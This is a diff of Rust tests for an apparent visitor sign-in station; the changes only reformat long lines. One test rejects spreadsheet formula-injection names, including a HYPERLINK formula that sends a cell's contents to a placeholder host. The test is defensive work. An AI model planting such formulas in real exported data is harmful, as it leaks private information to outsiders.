@@ -259,7 +259,8 @@ fn without_its_list_the_station_finds_nobody_and_still_takes_new_people() {
 /// A station of forty people of whom no two fit the same letters.
 fn station_of_many(check: PrivateCheck) -> (Visit, Vec<String>) {
     let syllables = ["ba", "do", "fi", "gu", "ke", "lo", "mi", "nu", "pa", "ri"];
-    let words: Vec<String> = (0..40).map(|at| [syllables[at % 10], syllables[(at / 10 + at) % 10], syllables[(at / 10 * 3 + at) % 10], "x"].concat()).collect();
+    let words: Vec<String> =
+        (0..40).map(|at| [syllables[at % 10], syllables[(at / 10 + at) % 10], syllables[(at / 10 * 3 + at) % 10], "x"].concat()).collect();
     let mut dataset = Dataset::default();
     let mut add = |table: Table, cells: &[(&'static str, &str)]| {
         let mut row = Row::default();
@@ -310,7 +311,10 @@ fn pressing_no_name_or_being_new_lets_nobody_read_the_list_off() {
         // Nor does signing out those who were made up.
         let leaves = read_off(check, |visit, at| {
             do_all(visit, made_up(at, &format!("Qqq{at} Wxw")));
-            do_all(visit, [Input::Begun, Input::Typed(format!("qqq{at}")), Input::Leaving(0), Input::Answered(Answer::Nothing), Input::Stored]);
+            do_all(
+                visit,
+                [Input::Begun, Input::Typed(format!("qqq{at}")), Input::Leaving(0), Input::Answered(Answer::Nothing), Input::Stored],
+            );
         });
         assert!(leaves <= alone, "{leaves}");
         let wrong = read_off(check, |visit, _| do_all(visit, [Input::Answered(Answer::Birthday(1, 1)), Input::Stored, Input::Begun]));
@@ -355,7 +359,9 @@ fn whoever_waits_long_enough_looks_again_and_who_answers_rightly_at_once() {
 
 #[test]
 fn what_a_spreadsheet_would_take_for_a_formula_is_no_name_at_the_station() {
-    for typed in ["=1+1", " =1", "+44", "-1", "@SUM(A1)", "\tSaba", "＝1", "＋", "－", "＠a", "\u{feff}=1", "=HYPERLINK(\"https://x/?\"&B2)"] {
+    for typed in
+        ["=1+1", " =1", "+44", "-1", "@SUM(A1)", "\tSaba", "＝1", "＋", "－", "＠a", "\u{feff}=1", "=HYPERLINK(\"https://x/?\"&B2)"]
+    {
         let mut visit = visit(PrivateCheck::Nothing);
         visit.step(Input::IsNew, 0);
         assert_eq!(visit.step(Input::Named(typed.to_owned(), PersonId::new("new").unwrap()), 0), None, "{typed}");
